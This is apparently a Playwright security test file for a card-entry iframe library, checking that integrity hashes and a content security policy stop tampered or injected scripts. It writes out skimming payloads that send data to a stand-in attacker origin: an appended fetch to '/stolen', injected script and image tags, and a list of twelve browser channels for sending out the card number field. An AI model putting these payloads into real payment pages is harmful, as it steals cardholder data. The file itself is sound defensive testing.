"""Scripts that somebody changed on the way: the browser refuses them."""

from __future__ import annotations

import pytest
from playwright.sync_api import Page, Route, expect

from farthing_cli.card_frame import inventory, script_tag
from tests.browser.shop import Shop
from tests.browser.visit import FRAME, Visit

BUILT = {file.kind: file.path for file in inventory()}


def evil(stranger: Shop) -> str:
    """What somebody adds to a script."""
    return f"\n;window.evil = true; fetch('{stranger.origin}/stolen', {{ mode: 'no-cors' }});\n"


def stolen(stranger: Shop) -> list[str]:
    """What the stranger got."""
    return [path for path in stranger.asked if path.startswith("/stolen")]


def tamper(page: Page, path: str, more: str) -> None:
    """Somebody on the way who adds to a file, and leaves its headers."""

    def answer(route: Route) -> None:
        real = route.fetch()
        route.fulfill(response=real, body=real.text() + more)

    page.route(f"**/fields/v1/{path}", answer)


def test_a_loader_that_was_changed_does_not_run(visit: Visit, stranger: Shop) -> None:
    # Given
    said: list[str] = []
    visit.page.on("console", lambda message: said.append(message.text))
    tamper(visit.page, BUILT["loader"], evil(stranger))
    # When
    visit.go()
    # Then
    assert visit.page.evaluate("[typeof Farthing, typeof evil]") == ["undefined", "undefined"]
    assert any("integrity" in text for text in said), said
    assert stolen(stranger) == []


def test_without_the_hash_it_would_run(visit: Visit, stranger: Shop) -> None:
    """Given the same change, and a page that names the loader without its integrity."""
    tamper(visit.page, "fields.js", evil(stranger))
    visit.go(tag=f'<script src="{visit.tokens_url}/fields/v1/fields.js"></script>')
    assert visit.page.evaluate("[typeof Farthing, typeof evil]") == ["function", "boolean"]
    visit.page.wait_for_timeout(100)
    assert stolen(stranger) == ["/stolen"]
    stranger.asked.clear()


@pytest.mark.parametrize("kind", ["script", "style"])
def test_a_frame_whose_files_were_changed_takes_no_card_or_looks_plain(
    visit: Visit, stranger: Shop, kind: str
) -> None:
    tamper(
        visit.page, BUILT[kind], evil(stranger) if kind == "script" else "\ninput { color: red }"
    )
    visit.go()
    visit.page.evaluate("(key) => start(key)", visit.key)
    if kind == "style":
        expect(visit.field("number")).not_to_have_css("color", "rgb(255, 0, 0)")
        return
    visit.page.wait_for_function("told.some(([name]) => name === 'error')")
    assert visit.told("error")[0]["code"] == "frame_unavailable"
    expect(visit.frame.locator("form")).to_be_hidden()
    assert stolen(stranger) == []


def test_a_script_that_was_put_into_the_page_does_not_run(visit: Visit, stranger: Shop) -> None:
    """Given somebody on the way who changes the page itself, but not its policy."""

    def answer(route: Route) -> None:
        real = route.fetch()
        more = f"<script>{evil(stranger)}</script><script src={stranger.origin}/stolen></script>"
        more += (
            f"<img src={stranger.origin}/stolen onerror='window.evil = true'><style>p{{}}</style>"
        )
        route.fulfill(response=real, body=real.text().replace("</body>", more + "</body>"))

    visit.page.route("**/fields/v1/frame?**", answer)
    visit.go().start().type()
    frame = visit.page.frame("farthing-card-fields")
    assert frame is not None
    assert frame.evaluate("typeof evil") == "undefined"
    assert frame.evaluate("document.styleSheets.length") == 1
    assert stolen(stranger) == []


def test_what_gets_into_the_frame_cannot_send_anything_out(visit: Visit, stranger: Shop) -> None:
    """Given code that runs in the frame all the same, through a hole that nobody knows."""
    visit.go().start().type()
    frame = visit.page.frame("farthing-card-fields")
    assert frame is not None
    frame.evaluate(WAYS_OUT, stranger.origin)
    assert stolen(stranger) == []
    refused = frame.evaluate(
        "() => { try { document.body.innerHTML = '<p>x</p>' } catch (e) { return e.name } }"
    )
    assert refused == "TypeError"
    # And: the same ways lead out of a page without such a policy
    visit.page.evaluate(
        f"(origin) => {{ window.number = {{}}; return ({WAYS_OUT})(origin) }}", stranger.origin
    )
    assert len(stolen(stranger)) >= 6
    stranger.asked.clear()


WAYS_OUT = """async (origin) => {
    const out = (way) => `${origin}/stolen?${way}${number.value}`;
    const element = (name, attributes) => {
        document.body.append(Object.assign(document.createElement(name), attributes));
    };
    const ways = [
        () => fetch(out("fetch"), { mode: "no-cors" }),
        () => navigator.sendBeacon(out("beacon")),
        () => element("img", { src: out("image") }),
        () => element("script", { src: out("script") }),
        () => element("iframe", { src: out("frame") }),
        () => element("link", { rel: "stylesheet", href: out("style") }),
        () => element("link", { rel: "prefetch", href: out("prefetch") }),
        () => element("video", { src: out("video") }),
        () => element("object", { data: out("object") }),
        () => { document.body.style.backgroundImage = `url(${out("background")})`; },
        () => new WebSocket(out("socket").replace("http", "ws")),
        () => new EventSource(out("events")),
    ];
    for (const way of ways) {
        try { await way(); } catch { /* the next one */ }
    }
    await new Promise((done) => setTimeout(done, 500));
}"""


def test_the_tag_that_merchants_get_is_the_one_that_runs(visit: Visit) -> None:
    visit.go(tag=script_tag(visit.tokens_url)).start()
    expect(visit.page.locator(FRAME)).to_have_attribute("title", "Card details")
    plain = f'<script src="{visit.tokens_url}/fields/v1/fields.js"></script>'
    visit.go(tag=plain).start()
    expect(visit.field("number")).to_be_visible()
